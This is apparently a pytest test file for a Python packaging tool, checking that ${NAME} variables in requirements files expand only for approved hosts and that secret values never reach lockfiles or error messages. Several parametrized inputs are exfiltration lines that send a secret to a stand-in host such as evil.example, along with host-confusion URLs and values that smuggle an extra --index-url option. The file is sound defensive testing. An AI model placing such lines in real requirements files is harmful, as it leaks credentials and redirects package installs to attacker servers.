"""``${NAME}`` in requirements: only what is passed is expanded, for a resolver, and a value is shown nowhere."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from flowpack.checks.run import check
from flowpack.dependencies import resolution
from flowpack.dependencies.lockfile import LOCK_NAME, Lockfile, lock_dependencies
from flowpack.dependencies.passed_variables import PassedVariable
from flowpack.dependencies.requirements import Requirements
from flowpack.dependencies.serving_needs import ServingNeeds
from flowpack.dependencies.target import Target
from flowpack.errors import FlowpackError, RequirementsError, UsageError
from tests.commands import flowpack
from tests.dependencies.conftest import Read
from tests.dependencies.test_lockfile import Scripted
from tests.paths import write_tree

TARGET = Target.parse("3.11", "linux/amd64")
SECRET = "Hunter2Of4711"
FLOW = {
    "flow.dag.yaml": "nodes:\n- {name: say, type: python, source: {type: code, path: say.py}}\n",
    "say.py": "from promptflow.core import tool\n\n\n@tool\ndef say():\n    return 1\n",
}


@pytest.fixture
def scripted(monkeypatch: pytest.MonkeyPatch) -> Scripted:
    resolver = Scripted()
    monkeypatch.setattr(resolution, "choose_resolver", lambda *_: resolver)
    return resolver


def lock(requirements: Requirements, *passed: str, **more: Any) -> Lockfile:
    parsed = [PassedVariable.parse(each) for each in passed]
    return lock_dependencies(
        requirements, **{"needs": ServingNeeds(), "target": TARGET, "resolver": "auto", "passed": parsed, **more}
    )


@pytest.mark.attack("H4")
@pytest.mark.parametrize(
    "line",
    [
        "--extra-index-url http://evil.example/${SECRET}/simple",
        "--index-url http://${SECRET}@evil.example/simple",
        "-i ${SECRET}",
        "--find-links http://evil.example/${SECRET}",
        "x @ https://${SECRET}@evil.example/x-1-py3-none-any.whl",
        "https://${SECRET}@evil.example/x-1-py3-none-any.whl",
        "--extra-index-url \\\n  http://evil.example/${SECRET}/simple",
        "--extra-index-url 'http://evil.example/$''{SECRET}/simple'",
    ],
)
def test_a_variable_that_is_not_passed_is_refused_before_a_resolver_is_asked(
    read: Read, scripted: Scripted, monkeypatch: pytest.MonkeyPatch, line: str
) -> None:
    monkeypatch.setenv("SECRET", SECRET)
    with pytest.raises(RequirementsError) as raised:
        lock(read(f"flask\n{line}\n"), "SECRETS")
    assert scripted.asked == []
    where = raised.value.location
    assert where is not None
    before = line.partition("${")[0]  # quotation marks may hide it
    column = len(before.rpartition("\n")[2]) + 1 if "${" in line else None
    assert (where.line, where.column) == (2 + before.count("\n"), column)
    assert "--pass-variable SECRET" in str(raised.value.hint)
    assert SECRET.lower() not in str(raised.value).lower()


@pytest.mark.attack("H4")
@pytest.mark.parametrize(
    "line",
    [
        "flask==${SECRET}",
        "${SECRET}",
        "${SECRET}==1",
        "flask[${SECRET}]",
        "flask ; python_version > '${SECRET}'",
        "x @ https://example.org/${SECRET}/x-1-py3-none-any.whl",
        "x @ ${SECRET}/x-1-py3-none-any.whl",
        "-r ${SECRET}.txt",
        "-c ${SECRET}.txt",
        "--find-links ./${SECRET}",
        "--trusted-host ${SECRET}",
        "--no-binary ${SECRET}",
    ],
)
def test_a_variable_whose_value_would_go_into_the_lock_is_refused_passed_or_not(
    read: Read, scripted: Scripted, monkeypatch: pytest.MonkeyPatch, line: str
) -> None:
    monkeypatch.setenv("SECRET", SECRET)
    with pytest.raises(RequirementsError) as raised:
        lock(read(f"{line}\n"), "SECRET")
    assert scripted.asked == []
    assert SECRET.lower() not in str(raised.value).lower()


@pytest.mark.attack("H4")
def test_a_passed_variable_reaches_the_resolver_and_not_the_lock(
    read: Read, scripted: Scripted, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECRET", SECRET)
    asked = read(
        "--extra-index-url https://packages.example/${SECRET}/simple\n"
        "-f https://me:${SECRET}@packages.example/links\n"
        "x @ https://${SECRET}@packages.example/x-1-py3-none-any.whl\n"
    )
    made = lock(asked, "SECRET@packages.example")
    (question,) = scripted.asked
    assert question.requirements.options.extra_index_urls == (f"https://packages.example/{SECRET}/simple",)
    assert question.requirements.options.find_links == (f"https://me:{SECRET}@packages.example/links",)
    assert SECRET in question.requirements.lines[0].resolvable
    assert SECRET.lower() not in made.text.lower()
    installed = [line for line in made.text.splitlines() if not line.startswith("#")]
    assert not [line for line in installed if "${" in line], "an installer would expand it again"


@pytest.mark.attack("H4")
@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/${SECRET}",
        "https://packages.example.evil.example/${SECRET}",
        "https://packages.example@evil.example/${SECRET}",
        "https://${SECRET}@evil.example/packages.example",
        "https://packages.example:x@evil.example/${SECRET}",
        "https://${SECRET}.packages.example/simple",
    ],
)
def test_a_variable_that_is_passed_for_one_host_goes_to_no_other(
    read: Read, scripted: Scripted, monkeypatch: pytest.MonkeyPatch, url: str
) -> None:
    monkeypatch.setenv("SECRET", SECRET)
    with pytest.raises(RequirementsError, match=r"passed only for packages\.example"):
        lock(read(f"--extra-index-url {url}\n"), "SECRET@packages.example")
    assert scripted.asked == []


@pytest.mark.attack("H4")
@pytest.mark.parametrize(
    "url",
    [
        "'https://evil.example\\@packages.example/${SECRET}'",
        "https:evil.example/${SECRET}",
        "https:///evil.example/${SECRET}",
        "theirs=https://evil.example/simple",
        "file:///srv/simple",
        "/srv/simple",
        "ftp://evil.example/simple",
        "git+https://evil.example/simple",
        "'https://evil.example/ --index-url https://other.example'",
    ],
)
def test_an_index_is_a_url_whose_host_everybody_reads_alike(read: Read, url: str) -> None:
    with pytest.raises(RequirementsError, match="is not an http or https URL"):
        read(f"--extra-index-url {url}\n")


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("--trusted-host 'a.example --index-url https://evil.example'", "is not a host"),
        ("--no-binary 'x --index-url https://evil.example'", "is not a list of packages"),
        ("--only-binary --config-file=x", "is not a list of packages"),
        ("--find-links ftp://evil.example/", "neither a folder of the flow nor an http or https URL"),
        ("--find-links /", "there is no folder '/' in the flow"),
        ("--find-links file:///", "there is no folder"),
        ("--find-links ~", "there is no folder"),
        ("--trusted-host packages.example.org", "is not a host that the requirements name"),
    ],
)
@pytest.mark.attack("H4")
def test_an_option_has_no_more_effect_than_its_name_says(read: Read, line: str, message: str) -> None:
    with pytest.raises(RequirementsError) as raised:
        read(f"--extra-index-url https://b.example/simple\n{line}\n")
    assert message in raised.value.message


@pytest.mark.attack("H4")
@pytest.mark.parametrize("value", ["${OTHER}", "", "a b", "x/../..", "x@evil.example/"])
def test_a_value_is_not_expanded_twice_and_does_not_break_out_of_its_url(
    read: Read, scripted: Scripted, monkeypatch: pytest.MonkeyPatch, value: str
) -> None:
    monkeypatch.setenv("SECRET", value)
    monkeypatch.setenv("OTHER", "other")
    with pytest.raises(RequirementsError):
        lock(read("--index-url https://me:${SECRET}@packages.example/simple\n"), "SECRET@packages.example")
    assert scripted.asked == []


def test_a_fresh_lock_needs_no_variable(
    read: Read, scripted: Scripted, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("SECRET", SECRET)
    asked = read("--extra-index-url https://me:${SECRET}@packages.example/simple\nflask\n")
    (tmp_path / LOCK_NAME).write_text(lock(asked, "SECRET").text)
    monkeypatch.delenv("SECRET")
    assert lock(asked, existing=tmp_path / LOCK_NAME, locked=True).origin == "reused requirements.lock"


@pytest.mark.parametrize("text", ["", "lower", "A-B", "A@", "A@a b", "A=b", "@host", "A@h/x"])
def test_what_is_not_a_name_is_refused(text: str) -> None:
    with pytest.raises(UsageError, match="--pass-variable"):
        PassedVariable.parse(text)


@pytest.mark.attack("H4")
@pytest.mark.parametrize(
    "line",
    [
        "${SECRET}",
        "flask==${SECRET}",
        "--extra-index-url http://evil.example/${SECRET}/simple",
        "x @ https://${SECRET}@evil.example/x-1-py3-none-any.whl",
        "flask=>${SECRET}",
        "-r ${SECRET}",
    ],
)
def test_check_expands_no_variable(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, line: str) -> None:
    monkeypatch.setenv("SECRET", SECRET)
    monkeypatch.setenv("FLOWPACK_PASS_VARIABLE", "SECRET")
    write_tree(tmp_path, {**FLOW, "requirements.txt": f"{line}\n"})
    shown = str([(each.message, each.hint) for each in check([str(tmp_path)], use_cache=False).findings])
    assert SECRET.lower() not in shown.lower()


@pytest.mark.attack("H4")
def test_each_command_that_may_resolve_has_the_option_and_refuses_without_it(tmp_path: Path) -> None:
    write_tree(tmp_path, {**FLOW, "requirements.txt": "--extra-index-url http://evil.example/${SECRET}/simple\n"})
    env = {"SECRET": SECRET, "FLOWPACK_PASS_VARIABLE": "OTHER@packages.example"}
    for command in (["lock"], ["build", "--output", str(tmp_path.parent / "out")], ["test", "--engine", "venv"]):
        done = flowpack(*command, str(tmp_path), env=env, expect=1)
        assert "requirements.txt:1:39: the requirements use the variable SECRET, which is not passed" in done.stderr
        assert SECRET not in done.stdout + done.stderr
    plan = flowpack("build", "--dry-run", str(tmp_path), env=env)
    assert SECRET not in plan.stdout + plan.stderr
    assert "--pass-variable" in flowpack("ci", "--help").stdout


def test_a_variable_is_passed_by_the_machines_own_configuration_without_an_option(
    read: Read, scripted: Scripted, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What pip's configuration says is the machine owner's: nothing of it is looked at here."""
    monkeypatch.setenv("PIP_INDEX_URL", "https://me:${SECRET}@packages.example/simple")
    assert lock(read("flask\n")).pins["flask"] == "1"


def test_an_error_of_another_kind_shows_no_value_either(
    read: Read, scripted: Scripted, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECRET", "se cret/47")

    def fails(_: object) -> None:
        raise FlowpackError("asked /se%20cret/47/simple", detail="and SE CRET/47", hint="use se%20cret%2F47")

    monkeypatch.setattr(scripted, "resolve", fails)
    monkeypatch.setenv("SECRET", "se%20cret/47")
    with pytest.raises(FlowpackError) as raised:
        lock(read("-i https://packages.example/${SECRET}/simple\nflask\n"), "SECRET")
    assert "cret" not in f"{raised.value} {raised.value!r}".lower().replace("${secret}", "")


@pytest.mark.attack("H4")
def test_pip_gets_no_line_with_a_variable_that_it_would_expand_itself(read: Read) -> None:
    options = read("--extra-index-url https://evil.example/${SECRET}/simple\n").options
    with pytest.raises(RequirementsError, match="not passed: SECRET"):
        list(options.requirements_lines())
